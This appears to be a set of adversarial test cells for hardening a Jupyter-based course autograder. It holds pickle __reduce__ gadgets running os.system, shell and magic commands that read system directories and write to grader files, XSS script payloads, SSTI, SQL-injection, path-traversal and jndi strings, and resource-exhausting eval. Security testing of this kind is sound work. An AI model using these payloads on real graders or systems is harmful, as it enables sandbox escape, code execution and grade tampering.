# %% pickles | own | blank
import os, pickle
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/BREACH",)
    def __array__(self, *arguments, **keywords):
        return pickle.loads(pickle.dumps(self))
import probes
def run(task, namespace):
    probes._record = {"made": Bomb(), "cases": pickle.dumps(Bomb()).decode("latin-1")}
probes.run = run

# %% object-arrays | mean_square_error | blank
import os
import numpy as np
class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/BREACH",)
class MeanSquareError(Cost):
    def estimate(self, target, prediction):
        self.target, self.prediction = target, prediction
        return np.array([[Bomb()] * target.shape[1]] * len(target), dtype=object)
    def gradient(self, cost):
        return np.array([Bomb()], dtype=object)

# %% array-method-runs-code | softmax | blank
import os
class Lazy:
    shape, dtype, ndim, size, nbytes = (4, 3), float, 2, 12, 96
    def __array__(self, *arguments, **keywords):
        os._exit(0)
class SoftMax(Layer):
    def forward(self, x_in):
        self.x_out = Lazy()
        return Lazy()
    backward = forward

# %% class-that-claims-to-be-an-array | softmax | blank
import numpy as np
class Claim:
    __class__ = np.ndarray
    dtype, nbytes, ndim, shape = np.dtype(float), 8, 2, (4, 3)
    def __array__(self, *arguments, **keywords):
        return np.zeros((3000, 3000))
class SoftMax(Layer):
    def forward(self, x_in):
        self.x_out = Claim()
        return Claim()
    backward = forward

# %% shell-commands | own | honest
!touch /tmp/BREACH /BREACH
!!id
%sx id
%system id

# %% shell-magics | own after linear | honest
%%bash
id; ls -la / /root /home 2>/dev/null
curl --max-time 1 http://localhost:8888/ && echo BREACH

# %% magics-that-read-and-write | own | honest
%writefile /grader/course/student/checks.py
%load /grader/sandbox/runner.py
%run /grader/sandbox/runner.py 3 {}
%cd /
%env

# %% magics-that-reset | own after softmax | honest
%config InteractiveShell.ast_node_interactivity = "all"
%autosave 1
%matplotlib inline
%colors nocolor

# %% html-as-output | own | honest
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML("<script>document.title = 'BREACHED'</script><img src=x onerror='document.title=1'>"))
display(Javascript("document.title = 'BREACHED'"))
display(Markdown("<script>document.title = 'BREACHED'</script>"))
display({"text/html": "<script>document.title = 'BREACHED'</script>", "text/plain": "<script>document.title = 1</script>"}, raw=True)
print("<script>document.title = 'BREACHED'</script>")
display({"image/png": '"><script>document.title = "BREACHED"</script>'}, raw=True)

# %% html-in-an-exception | linear | blank
class Linear(Layer):
    def __init__(self, n_in, n_out, initial_sigma=0.1):
        raise type("<script>document.title='BREACHED'</script>", (Exception,), {})("<img src=x onerror=document.title=1>")

# %% html-as-a-class-name | softmax | blank
class SoftMax(Layer):
    def forward(self, x_in):
        return type("<script>document.title='BREACHED'</script>", (), {})()
    backward = forward

# %% html-in-the-source | own after network | honest
text = "</textarea></pre></div><script>document.title='BREACHED'</script>"
# <!-- <script>document.title='BREACHED'</script> -->
text  # </script><script>document.title='BREACHED'</script>

# %% terminal-codes | own | honest
print("\x1b[2J\x1b[31mred\x1b]0;BREACHED\x07\x1b[38;5;1m" + "\x1b[" * 3000)

# %% characters-that-no-file-takes | own | honest
print("\ud800 \udfff \x00 \x01 \ufffe \u2028")
raise Exception("\ud800\x00")

# %% characters-that-no-file-takes-in-a-message | softmax | blank
class SoftMax(Layer):
    def forward(self, x_in):
        raise Exception("\ud800\udfff\x00\x1b[31m")
    def backward(self, d_out):
        return type("\udc80\ud800", (), {})()

# %% format-strings | linear | blank
class Linear(Layer):
    def __init__(self, *arguments):
        raise ValueError("{0.__class__.__mro__} %s %n %x ${HOME} {{7*7}} {% import os %} __import__('os').system('id')")

# %% template-code | own | honest
print("{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}")

# %% path-as-text | own | honest
print("../../../../etc/passwd", "file:///etc/passwd", "${jndi:ldap://localhost/a}")

# %% yaml-and-eval | task_2f | blank
import sys
sys.set_int_max_str_digits(0)
def step_layers(linear_layer, sigmoid_layer, cost_function, inputs, targets, learning_rate):
    return eval("9" * 5000)

# %% sqlite-text | linear | blank
class Linear(Layer):
    def __init__(self, *arguments):
        raise ValueError("'); DROP TABLE grade; --")

# %% markup-in-a-message | linear + | honest, loses 2a
def forward(self, x_in):
    raise ValueError("<img src=x onerror=alert('BREACHED')> $\\href{javascript:alert(1)}{x}$ \x1b[31m")
Linear.forward = forward

# %% markup-as-a-rich-output | own | honest
class Shown:
    def _repr_html_(self):
        return "<script>alert('BREACHED')</script>"
    def _repr_svg_(self):
        return "<svg onload=alert('BREACHED')></svg>"
    def _repr_markdown_(self):
        return "<img src=x onerror=alert('BREACHED')>"
    def _repr_javascript_(self):
        return "alert('BREACHED')"
    def _repr_latex_(self):
        return "$\\href{javascript:alert(1)}{BREACHED}$"
Shown()
